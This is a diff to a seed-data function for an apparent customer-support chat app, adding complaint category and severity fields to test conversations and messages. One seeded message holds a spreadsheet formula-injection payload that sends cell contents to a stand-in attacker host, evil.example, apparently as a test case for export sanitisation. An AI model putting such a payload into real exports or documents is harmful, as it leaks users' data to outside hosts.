@@ -80,10 +80,20 @@ def seed(db: None) -> Seed:
         csat=5,
         sentiment=0.6,
         sentiment_label="positive",
+        complaint_category="other",
+        complaint_severity="low",
     )
     order = _conversation(shop, sam, at(3, 9), status="bot", last_seq=2)
     refund = _conversation(
-        other, omar, at(2, 12), status="waiting_human", last_seq=2, sentiment=-0.7, sentiment_label="negative"
+        other,
+        omar,
+        at(2, 12),
+        status="waiting_human",
+        last_seq=2,
+        sentiment=-0.7,
+        sentiment_label="negative",
+        complaint_category="refund",
+        complaint_severity="medium",
     )
 
     m: dict[str, Message] = {}
@@ -120,6 +130,8 @@ def seed(db: None) -> Seed:
         text='=HYPERLINK("http://evil.example/?x="&A1,"help")',
         sentiment=-0.4,
         sentiment_label="negative",
+        complaint_category="other",
+        complaint_severity="low",
     )
     m["r4"] = _message(
         returns,
@@ -178,6 +190,8 @@ def seed(db: None) -> Seed:
         text="@everyone I want a refund",
         sentiment=-0.7,
         sentiment_label="negative",
+        complaint_category="refund",
+        complaint_severity="medium",
     )
     m["f2"] = _message(
         refund,
